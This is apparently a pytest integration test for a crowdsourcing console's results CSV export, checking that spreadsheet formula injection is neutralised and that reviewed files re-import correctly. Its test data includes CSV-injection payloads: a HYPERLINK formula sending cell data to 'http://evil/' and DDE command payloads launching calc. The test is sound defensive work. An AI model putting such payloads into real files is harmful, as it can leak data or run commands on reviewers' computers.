"""Issue 21: the console's results CSV is safe to open in a spreadsheet, and the reviewed file
still applies after a spreadsheet kept or dropped the protective apostrophes."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

import hitflow_csv
from hitflow_support.console_client import ConsoleClient
from hitflow_support.crowd_client import submit_answer_over_http
from hitflow_support.service_process import ServiceProcess

pytestmark = pytest.mark.integration

ANSWERS = [
    '=HYPERLINK("http://evil/?"&A2,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
]
INPUT = b'person_id,image_url\r\n"=1+2",https://img.example.org/1.jpg\r\n'


def dangerous(value: str) -> bool:
    return bool(value) and value[0] in hitflow_csv.FORMULA_START and not hitflow_csv._NUMBER.fullmatch(value)


def as_csv(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode()


def test_results_csv_cells_never_run_as_formulas(
    account: dict[str, Any], new_worker: Any, service: ServiceProcess
) -> None:
    console: ConsoleClient = account["console"]
    client = account["client"]
    layout_id = console.create_project("age_guess", max_assignments=str(len(ANSWERS)))
    batch_id = console.upload(layout_id, INPUT)
    console.publish(batch_id)
    console.wait_published(batch_id)
    (hit,) = client.list_hits()["HITs"]
    for answer in ANSWERS:
        worker = new_worker()
        submit_answer_over_http(service.url, worker["name"], worker["password"], hit["HITId"], {"age": answer})

    text = console.results_csv(batch_id)
    table = list(csv.DictReader(io.StringIO(text)))
    assert len(table) == len(ANSWERS)
    assert not [(name, v) for row in table for name, v in row.items() if dangerous(v)]  # no cell is a formula
    assert {row["Answer.age"] for row in table} == {"'" + answer for answer in ANSWERS}
    assert {row["Input.person_id"] for row in table} == {"'=1+2"}  # the input went in as written, out as text
    assert {hitflow_csv.restore(row["Answer.age"]) for row in table} == set(ANSWERS)

    # Reviewed in a spreadsheet that kept the apostrophes, and in one that dropped them: the same rows.
    kept = [dict(row) for row in table[:2]]
    dropped = [{k: (v[1:] if v.startswith("'") else v) for k, v in row.items()} for row in table[2:]]
    kept[0]["Approve"] = "X"
    kept[1]["Reject"] = "'-1 is not an age"  # typed with the spreadsheet's text marker
    dropped[0]["Approve"] = "X"
    dropped[1]["Reject"] = "-1 is not an age"
    for rows in (kept, dropped):
        page = console.post(
            f"/requester/batches/{batch_id}/reviewed", files={"file": ("r.csv", as_csv(rows), "text/csv")}
        ).text
        assert "2 applied · 0 skipped (already done) · 0 failed" in page, page[-2000:]
    statuses = {a["AssignmentId"]: a for a in client.list_assignments_for_hit(HITId=hit["HITId"])["Assignments"]}
    for rows in (kept, dropped):
        assert statuses[hitflow_csv.restore(rows[0]["AssignmentId"])]["AssignmentStatus"] == "Approved"
        rejected = statuses[hitflow_csv.restore(rows[1]["AssignmentId"])]
        assert rejected["AssignmentStatus"] == "Rejected" and rejected["RequesterFeedback"] == "-1 is not an age"
